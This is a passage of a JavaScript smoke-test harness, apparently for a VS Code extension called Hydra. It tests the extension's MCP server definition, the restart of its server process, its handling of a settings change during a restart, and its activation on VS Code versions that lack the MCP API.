      change('hydraSession.maxReferenceBytes', 65536);
      change('hydraSession.candidateLimit', 50);
    }
  });

  // The command line itself, against the server under test: only a server
  // with the `mcp` subcommand can run it (it comes with issue 14).
  const [mcpDef] = await mcpDefinitions();
  const hasMcp = childProcess.spawnSync(server, ['mcp', '--help'], { encoding: 'utf8' });
  if (hasMcp.status !== 0) {
    report('the MCP definition runs and answers initialize', false, `\`mcp --help\` failed (status ${hasMcp.status}): ${(hasMcp.stderr ?? '').trim().split('\n')[0]}`);
  } else {
    await test('the MCP definition runs and answers initialize', async () => {
      const child = childProcess.spawn(mcpDef.command, mcpDef.args, { cwd: mcpDef.cwd?.fsPath, stdio: ['pipe', 'pipe', 'pipe'] });
      let out = '';
      let err = '';
      child.stdout.on('data', (d) => (out += d));
      child.stderr.on('data', (d) => (err += d));
      child.stdin.write(JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'vscode-smoke', version: '0' } } }) + '\n');
      try {
        const line = await waitFor('an answer to initialize', () => child.exitCode !== null || out.includes('\n'));
        const answer = out.includes('\n') ? JSON.parse(out.slice(0, out.indexOf('\n'))) : undefined;
        if (line !== true || answer?.id !== 1 || typeof answer?.result !== 'object') throw new Error(`stdout ${show(out)}; stderr ${show(err)}`);
      } finally {
        child.kill('SIGKILL');
      }
    });
  }

  await test('Hydra: Restart Server starts a new server', async () => {
    // The status already reads "4 sessions": what proves the restart is a
    // new server process in place of the old one, started once more.
    const old = servers();
    if (old.length !== 1) throw new Error(`before the restart ${old.length} servers run: ${show(old.map((c) => c.pid))}`);
    const startsBefore = starts();
    await vscode.commands.executeCommand('hydraSession.restartServer');
    status.text = '';
    await waitFor('the old server to exit', () => !alive(old[0]));
    await waitFor('a new server process', () => servers().length === 1 && servers()[0] !== old[0]);
    if (starts() !== startsBefore + 1) throw new Error(`${starts() - startsBefore} starts for one restart`);
    await waitFor('status after restart', () => /Hydra: 4 sessions/.test(status.text));
  });

  await test('a settings change during a restart starts no second server', async () => {
    // The change arrives while the old client stops and none is current:
    // it must wait for the restart, not start a server of its own.
    const old = servers();
    if (old.length !== 1) throw new Error(`before the restart ${old.length} servers run: ${show(old.map((c) => c.pid))}`);
    const startsBefore = starts();
    const restart = vscode.commands.executeCommand('hydraSession.restartServer');
    change('hydraSession.candidateLimit', 40);
    status.text = '';
    await restart;
    await waitFor('the old server to exit', () => !alive(old[0]));
    await waitFor('a new server process', () => servers().length >= 1 && !servers().includes(old[0]));
    await waitFor('status after restart', () => /Hydra: 4 sessions/.test(status.text));
    change('hydraSession.candidateLimit', 50);
    await waitFor('status after the update', () => /Hydra: 4 sessions/.test(status.text));
    const running = servers();
    if (starts() !== startsBefore + 1 || running.length !== 1) {
      throw new Error(`${starts() - startsBefore} starts and ${running.length} servers for one restart`);
    }
  });

  await test('deactivate() stops the server', async () => {
    await Promise.race([ext.deactivate(), sleep(STEP_MS).then(() => { throw new Error('deactivate() hung'); })]);
  });

  await test('on a VS Code without vscode.lm.registerMcpServerDefinitionProvider, activation still works and says so', async () => {
    // A fresh copy of the bundle, as a VS Code older than 1.101 loads it.
    vscode.lm = undefined;
    vscode.McpStdioServerDefinition = undefined;
    mcpProviders.clear();
    const lines = () => channels.flatMap((c) => c.lines);
    const before = lines().length;
    delete require.cache[require.resolve(bundle)];
    const old = require(bundle);
    await Promise.race([old.activate({ ...context, subscriptions: [] }), sleep(STEP_MS).then(() => { throw new Error('activate() did not finish'); })]);
    await old.deactivate();
    const said = lines().slice(before).find((l) => l.startsWith('MCP: this VS Code'));
    if (said === undefined || mcpProviders.size !== 0) throw new Error(show(lines().slice(before)));
  });

  clearTimeout(global);
  fs.rmSync(workspaceDir, { recursive: true, force: true });
  console.log(summary());
  process.exit(failed > 0 ? 1 : 0);
}
process.on('unhandledRejection', (e) => console.log(`note: unhandled rejection: ${e?.stack ?? e}`));
main().catch((e) => {
  report('harness', false, e?.stack ?? e);
  console.log(summary());
  process.exit(1);
});
